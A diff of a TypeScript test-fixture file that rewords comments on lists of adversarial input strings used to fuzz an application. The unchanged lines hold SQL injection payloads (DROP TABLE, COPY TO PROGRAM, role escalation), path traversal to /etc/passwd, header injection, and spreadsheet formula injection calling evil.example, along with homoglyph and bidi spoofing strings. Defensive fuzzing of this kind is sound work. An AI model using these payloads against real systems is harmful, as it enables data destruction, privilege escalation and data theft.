@@ -1,6 +1,6 @@
 /*
- * What is no markup, and yet upsets programs: each family speaks to one of the machines that a text passes on its way.
- * One after another with ' ¦ ' between them, for there are hundreds.
+ * Not markup, but upsetting to programs: each family is aimed at one of the systems a text passes through. Separated by
+ * ' ¦ ', because there are hundreds.
  */
 const each = (family: string) => family.split(/ ¦[ \n]/)
 
@@ -11,7 +11,7 @@ const sql =
 $$; DROP TABLE posts; $$ ¦ E'\\x27' ¦ '||(select version())||' ¦  -- ¦ --  ¦ '' ¦ ' ¦
 x'; update users set role = 'moderator'; -- ¦ x'); insert into point_events default values; -- ¦ U&'\\0041' ¦
 '; COPY users TO PROGRAM 'id'; -- ¦ ::regclass ¦ '::jsonb ¦ nextval('x') ¦ ? ¦ :name ¦ @param ¦ %s ¦ %(x)s`)
-/** What only ours would read into it. */
+/** For our own code. */
 const postgres =
   each(`\\x00 ¦ \\x4142 ¦ {} ¦ {1,2,3} ¦ {"a","b"} ¦ {NULL} ¦ [1,5) ¦ (1,2) ¦ infinity ¦ -infinity ¦ epoch ¦ \\N ¦ \\. ¦
 \\copy ¦ "users" ¦ pg_catalog.pg_class ¦ to_tsquery('x') ¦ {{1,2},{3}} ¦ {"a":} ¦ ROW(1)`)
@@ -20,14 +20,14 @@ const search =
   each(`& | ! <-> ¦ a & b ¦ a | b ¦ !a ¦ a <-> b ¦ a:* ¦ :* ¦ a:*A ¦ () ¦ (((( ¦ )))) ¦ "a b" -c ¦ - ¦ -- ¦ % ¦ _ ¦ \\ ¦ %% ¦
 __ ¦ \\% ¦ \\_ ¦ %_%_% ¦ \\\\ ¦ %a%b%c%d%e% ¦ a' & 'b ¦ a:1b ¦ or ¦ and not ¦ * ¦ &&&& ¦ |||| ¦ !!!! ¦ <2> ¦ 'a':* ¦
 a\\ ¦ \\' ¦ " ¦ "unclosed ¦ ~ ¦ ^a$ ¦ .* ¦ [a-z]+ ¦ a{1000}`)
-/** Whoever opens files, and addresses. */
+/** File systems and addresses. */
 const paths =
   each(`../../../etc/passwd ¦ ..\\..\\windows\\win.ini ¦ ....//....//etc/passwd ¦ %2e%2e%2fetc%2fpasswd ¦ /etc/passwd ¦
 C:\\boot.ini ¦ \\\\server\\share ¦ file:///etc/passwd ¦ /proc/self/environ ¦ ..%c0%afetc ¦ . ¦ .. ¦ ./ ¦ ~root ¦
 con ¦ NUL ¦ aux.txt ¦ com1 ¦ a/b ¦ a\\b ¦ .htaccess ¦ .env ¦ x.php ¦ x.svg.exe ¦  .pdf ¦ a:b ¦ a?b#c ¦ %00.pdf ¦
 x%2F..%2Fy ¦ //evil.example/x ¦ https://evil.example ¦ /\\evil.example ¦ ///evil.example ¦ % ¦ %zz ¦ %E0%A4%A ¦
 ?next=//evil.example ¦ # ¦ ? ¦ &a=b ¦ ;a=b ¦ / ¦ // ¦ /api/session ¦ node_modules/../x`)
-/** The head of a mail or an answer. */
+/** The headers of an email or a response. */
 const heads =
   each(`a\r\nBcc: victim@example.org ¦ a\nSubject: other ¦ a\rX: y ¦ \r\n\r\n<script>hit()</script> ¦ a\r\n.\r\nQUIT ¦
 x\r\nSet-Cookie: a=b ¦ x\nLocation: https://evil.example ¦ %0d%0aX-Injected: 1 ¦ a\u2028b ¦ a\u2029b ¦ a\u0085b ¦
@@ -50,7 +50,7 @@ const shells =
 const formulas =
   each(`=cmd|' /C calc'!A0 ¦ =HYPERLINK("http://evil.example","x") ¦ +1+1 ¦ -1+1 ¦ @SUM(1) ¦ =1+1 ¦ \t=1 ¦ \r=1 ¦ "=1" ¦
 =IMPORTXML("http://evil.example","//a") ¦ ;=1 ¦ ,"x" ¦ "","" ¦ =DDE("cmd";"/C calc";"x") ¦ | ¦ || ¦ a|b|c`)
-/** Whoever unpacks. */
+/** Archives. */
 const json =
   each(`"} ¦ {"a":1} ¦ [1,2 ¦ \\u0022 ¦ \\u003cb\\u003e ¦ \\ ¦ \\\\ ¦ \\n ¦ \\" ¦ ","role":"moderator","x":" ¦ null} ¦
 \\u0000 ¦ \\x00 ¦ \\0 ¦ &#0; ¦ %00 ¦ \\ud800 ¦ &quot; ¦ &amp;lt; ¦ &apos; ¦ <!-- ¦ ]]> ¦ <![CDATA[ ¦ </x>`)
@@ -85,7 +85,7 @@ ${'['.repeat(180)} ¦
 x${'\n'.repeat(100)}x ¦
 ${'_'.repeat(180)} ¦
 ${'%'.repeat(180)}`)
-/** Turned round, hidden, stacked, joined: letters that are not what they look like. */
+/** Reversed, hidden, stacked, joined: characters that are not what they look like. */
 const letters =
   each(`\u202egpj.exe ¦ a\u202eb\u202cc ¦ \u2066a\u2069 ¦ \u2067שלום\u2069 ¦ مرحبا بالعالم ¦ שלום <b> ¦ \u200fa\u200e ¦
 \u061ca ¦ a\u200bb ¦ a\u200db ¦ a\ufeffb ¦ \u2060a ¦ a\u00adb ¦ \u180ea ¦ ㅤx ¦ ᅟx ¦ x\u034fy ¦ a\u00a0b ¦ \u3000x ¦
@@ -97,7 +97,10 @@ e${'\u0301'.repeat(150)} ¦
 ‘quoted’ ¦ ´ ¦ ․․/ ¦ ⁄etc ¦ аdmin ¦ ΑΒΓ ¦ раураl ¦ xn--80ak6aa92e.example ¦ \u0001x ¦ \u0007x ¦
 \u001b[31mred\u001b[0m ¦ \u001b]0;title\u0007 ¦ \u007fx ¦ \u0080x ¦ \u009fx ¦ x\u0008y ¦ \u001ax ¦ �x ¦ \uffffx ¦
 \ufffex ¦ \u{10ffff}x ¦ \u{1ffff}x ¦ \ue000x ¦ \ufdd0x ¦ \u{f0000}x ¦ 漢字かな交じり文 ¦ ไทย ¦ ह\u093fन\u094dद\u0940 ¦ ꙮ`)
-/** In the shapes of a mailbox, an address, a registration, a day or a telephone, so that those doors open too. */
+/**
+ * In the format of an email address, a URL, a registration, a date or a telephone number, so that those fields accept
+ * them.
+ */
 export const shapedTexts =
   each(`o'hara@example.org ¦ a+b+c@example.org ¦ __proto__@example.org ¦ -x@example.org ¦ _@example.org ¦
 constructor@example.org ¦ '--@example.org ¦ x@xn--e1afmkfd.example ¦ x@example.org,y@example.org ¦
@@ -113,7 +116,7 @@ youtu.be/dQw4w9WgXcQ#{{7*7}} ¦ QZ1'-- ¦ <QZ 1> ¦ QZ%1 ¦ qz-1 ¦ QZ\u200b1 ¦
 0000-00-00 ¦ 01/02/2026 ¦ tomorrow ¦ +44 20 7946 0000 ¦ 020 7946 0000;ext=1 ¦ /vehicles ¦ /listings/a-b ¦
 /vehicles?view=sold ¦ /transfer/aaaaaaaaaaaaaaaa ¦ 123456 ¦ abcde-fghjk ¦ correct horse battery`)
 
-/** No two alike, none longer than a title may be. */
+/** All different, none longer than a title may be. */
 export const trickyTexts: string[] = [
   ...new Set(
     [
@@ -123,7 +126,7 @@ export const trickyTexts: string[] = [
   ),
 ]
 
-/** What a database cannot hold, and nobody types: refused whole. */
+/** What a database cannot store and nobody types: refused entirely. */
 export const unkeepableTexts = [
   '\0',
   'a\0b',
